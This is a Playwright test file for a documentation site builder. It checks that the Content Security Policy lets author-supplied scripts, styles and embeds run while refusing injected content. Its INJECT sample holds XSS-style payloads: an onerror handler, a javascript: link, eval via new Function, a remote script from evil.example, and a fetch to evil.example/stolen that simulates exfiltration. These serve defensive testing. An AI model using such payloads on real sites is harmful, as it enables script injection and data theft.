import path from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { STRANGER } from '../../src/access/viewer.ts'
import { View } from '../../src/access/view.ts'
import { buildSnapshot } from '../../src/snapshot/build-snapshot.ts'
import { openBrowser } from '../support/browser.ts'
import { lectern, serving, type RunningCli } from '../support/cli.ts'
import { fileServer, type FileServer } from '../support/file-server.ts'
import { LONG } from '../support/sampled.ts'
import { servedSite, type ServedSite } from '../support/served-site.ts'
import { docsJson, makeFolder, makeSite } from '../support/site.ts'

const FILES = {
  'docs.json': docsJson({ colors: { primary: '#0f766e' } }),
  'brand.css': '@import url("https://fonts.example/face.css");\n.branded{color:rgb(1,2,3)}\n',
  'site.js':
    'document.documentElement.dataset.site = "ran"\nconst s = document.createElement("script")\n' +
    's.src = "https://chat.example/widget.js"\ndocument.head.append(s)\n',
  'snippets/counter.jsx':
    'export const Counter = () => {\n  const [n, setN] = useState(0)\n' +
    '  useEffect(() => { fetch("https://api.example/stars").then((r) => r.text()).then((t) => setN(Number(t))) }, [])\n' +
    '  return <button className="count" style={{ color: "red" }} onClick={() => setN(n + 1)}>{n} stars</button>\n}\n',
  'index.mdx':
    '---\ntitle: Home\n---\n\nimport { Counter } from "/snippets/counter.jsx"\n\n<Counter />\n\n$$E = mc^2$$\n\n' +
    '<script>{`document.documentElement.dataset.inline = "ran" // <b> & "quotes"\n`}</script>\n\n' +
    '<script src="https://remote.example/a.js" async></script>\n\n' +
    '<style>{`.styled { color: rgb(4, 5, 6) }`}</style>\n\n<p className="styled" style={{ margin: 3 }}>Styled</p>\n\n' +
    '<p className="branded">Branded</p>\n\n<iframe src="https://video.example/embed/1" title="A film"></iframe>\n\n' +
    '<div dangerouslySetInnerHTML={{ __html: "<style>.raw{color:rgb(7,8,9)}</style><p class=raw>Raw</p>" }} />\n\n' +
    '![Elsewhere](https://pictures.example/a.png)\n\n```js\nconst answer = 42\n```\n',
  'guides/start.mdx':
    '---\ntitle: Start\n---\n\n<Tabs><Tab title="One">1</Tab><Tab title="Two">2</Tab></Tabs>\n',
  'diagram.mdx': '# Diagram\n\n```mermaid\ngraph LR\n  A --> B\n```\n',
}

// Runs in the page; what it may do is for the policy to decide.
const INJECT = `(() => {
  const script = document.createElement('script')
  script.textContent = 'window.hacked = "inline"'
  document.body.append(script)
  const remote = document.createElement('script')
  remote.src = 'https://evil.example/x.js'
  document.body.append(remote)
  document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.hacked = 1"><a id="bad" href="javascript:window.hacked=2">x</a>')
  const pictureFailed = new Promise((done) => document.querySelector('img[src="data:,"]').addEventListener('error', done))
  document.getElementById('bad').click()
  // Later: what a test runs itself may evaluate text.
  setTimeout(() => new Function('window.hacked = "eval"')())
  const evaluated = new Promise((done) => setTimeout(done, 1))
  const sent = fetch('https://evil.example/stolen').then(() => 'sent', () => 'refused')
  return Promise.all([sent, pictureFailed, evaluated]).then(([answer]) => answer)
})()`

let browser: Browser
beforeAll(async () => {
  browser = await openBrowser()
})
afterAll(() => browser?.close())

/** A page that keeps what its policy refused, with stand-ins for all other sites. */
async function watched(): Promise<{ page: Page; refused: string[]; asked: string[] }> {
  const context = await browser.newContext({ reducedMotion: 'reduce' })
  const page = await context.newPage()
  const refused: string[] = []
  const asked: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy|Permissions-Policy/i.test(message.text())) refused.push(message.text())
  })
  await page.route(/\.example\//, (route) => {
    const url = route.request().url()
    asked.push(url)
    const type = url.endsWith('.js') ? 'text/javascript' : url.endsWith('.css') ? 'text/css' : 'text/html'
    const body = url.endsWith('.js')
      ? `document.documentElement.dataset[${JSON.stringify(new URL(url).hostname.split('.')[0])}] = "ran"`
      : url.endsWith('stars')
        ? '41'
        : ''
    return route.fulfill({ contentType: type, body, headers: { 'access-control-allow-origin': '*' } })
  })
  return { page, refused, asked }
}

/** Everything an author may bring works, and nothing of it is refused. */
async function runsAll(url: string, diagrams = LONG): Promise<void> {
  const { page, refused, asked } = await watched()
  await page.goto(`${url}/`)
  await page.getByText('41 stars').click()
  await page.getByText('42 stars').waitFor()
  const data = () => page.evaluate<Record<string, string>>('({ ...document.documentElement.dataset })')
  await expect.poll(data).toMatchObject({ inline: 'ran', site: 'ran', remote: 'ran', chat: 'ran' })
  const color = (selector: string) =>
    page.evaluate(`getComputedStyle(document.querySelector('${selector}')).color`)
  expect(await color('.styled')).toBe('rgb(4, 5, 6)')
  expect(await color('.branded')).toBe('rgb(1, 2, 3)')
  expect(await color('.raw')).toBe('rgb(7, 8, 9)')
  await page.locator('iframe').scrollIntoViewIfNeeded()
  await page.getByAltText('Elsewhere').scrollIntoViewIfNeeded()
  await expect
    .poll(() => asked)
    .toEqual(
      expect.arrayContaining([
        'https://fonts.example/face.css',
        'https://video.example/embed/1',
        'https://pictures.example/a.png',
      ]),
    )
  if (diagrams) {
    await page.goto(`${url}/diagram/`)
    await page.locator('.drawing svg').waitFor()
  }
  expect(refused).toEqual([])
  await page.context().close()
}

async function refusesInjected(url: string): Promise<void> {
  const { page, refused, asked } = await watched()
  await page.goto(`${url}/guides/start/`)
  expect(await page.evaluate(INJECT)).toBe('refused')
  await expect.poll(() => refused.length).toBeGreaterThanOrEqual(4)
  expect(await page.evaluate('window.hacked')).toBeUndefined()
  expect(asked.filter((address) => address.includes('evil'))).toEqual([])
  await page.context().close()
}

describe('from the server', () => {
  let server: ServedSite
  beforeAll(async () => {
    server = await servedSite(makeFolder(FILES))
  })

  test('what authors bring works', () => runsAll(server.url))
  test('what gets in otherwise is refused', () => refusesInjected(server.url))
  test('a page from memory and a page that did not change keep their policy', async () => {
    const { page, refused } = await watched()
    await page.goto(`${server.url}/`)
    await page.goto(`${server.url}/`)
    await page.reload()
    await page.getByText('41 stars').waitFor()
    await page.evaluate(
      `document.body.append(Object.assign(document.createElement('script'), { text: 'window.hacked = 1' }))`,
    )
    expect(await page.evaluate('window.hacked')).toBeUndefined()
    await expect.poll(() => refused).toHaveLength(1)
    await page.context().close()
  })
})

describe('from files', () => {
  let server: FileServer
  beforeAll(async () => {
    const out = path.join(makeFolder({}), 'out')
    expect((await lectern(['build', makeFolder(FILES), '--out', out])).code).toBe(0)
    server = await fileServer(out)
  })
  afterAll(() => server?.close())

  test('what authors bring works', () => runsAll(server.url, true))
  test('what gets in otherwise is refused', () => refusesInjected(server.url))
})

describe.skipIf(!LONG)('in the preview', () => {
  let server: RunningCli
  beforeAll(async () => {
    server = await serving(['dev', makeFolder(FILES), '--no-open'])
  })
  afterAll(() => server?.stop())

  test('what authors bring works', () => runsAll(server.url))
  test('what gets in otherwise is refused', () => refusesInjected(server.url))
})

describe('over HTTP', () => {
  const security = { frameAncestors: ['https://app.acme.test'], connect: ['https://api.acme.test'] }
  const site = makeSite({ ...FILES, 'lectern.json': JSON.stringify({ security }) })
  const policy = async (path: string) =>
    (await site.app.request(path)).headers.get('content-security-policy') ?? ''

  test('every page has a policy, also one that does not exist', async () => {
    for (const path of ['/', '/guides/start', '/missing'])
      expect(await policy(path), path).toMatch(/^default-src 'self'; script-src 'self'[^;]* 'sha256-/)
  })
  test('operators open what they need', async () => {
    expect(await policy('/')).toContain("frame-ancestors 'self' https://app.acme.test")
    expect(await policy('/')).toMatch(/connect-src 'self'[^;]* https:\/\/api\.acme\.test/)
  })
  test('what one page brings is not allowed on another', async () => {
    expect(await policy('/')).toContain('https://remote.example')
    expect(await policy('/guides/start')).not.toContain('https://remote.example')
  })
  test('only pages with diagrams may write style elements', async () => {
    expect(await policy('/diagram')).toContain("style-src-elem 'self' 'unsafe-inline'")
    expect(await policy('/guides/start')).not.toContain("style-src-elem 'self' 'unsafe-inline'")
  })
  test('a policy too long for a header stands in the page', async () => {
    const scripts = Array.from({ length: 80 }, (_, at) => `<script>{"window.n = ${at}"}</script>`).join(
      '\n\n',
    )
    const long = makeSite({ 'docs.json': docsJson(), 'index.mdx': scripts })
    const answer = await long.app.request('/')
    expect(answer.headers.get('content-security-policy')).toBe("frame-ancestors 'self'")
    expect(await answer.text()).toMatch(
      /^<!doctype html><html[^>]*><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'sha256-/,
    )
  })
})

test('no page of the manual asks for anything its policy refuses', async () => {
  const server = await servedSite('docs')
  const { pages } = View.of(buildSnapshot({ root: 'docs' }), STRANGER)
  const addresses = pages.map(({ path: address }) => address)
  const waiting = [...addresses.filter((_, index) => LONG || index % 50 === 0), '/no-such-page']
  // Several windows: a page mostly waits for its scripts.
  const walk = async () => {
    const { page, refused } = await watched()
    for (let address = waiting.pop(); address !== undefined; address = waiting.pop())
      await page.goto(server.url + address, { waitUntil: 'load' })
    expect(refused).toEqual([])
    await page.context().close()
  }
  await Promise.all([walk(), walk(), walk()])
}, 120_000)
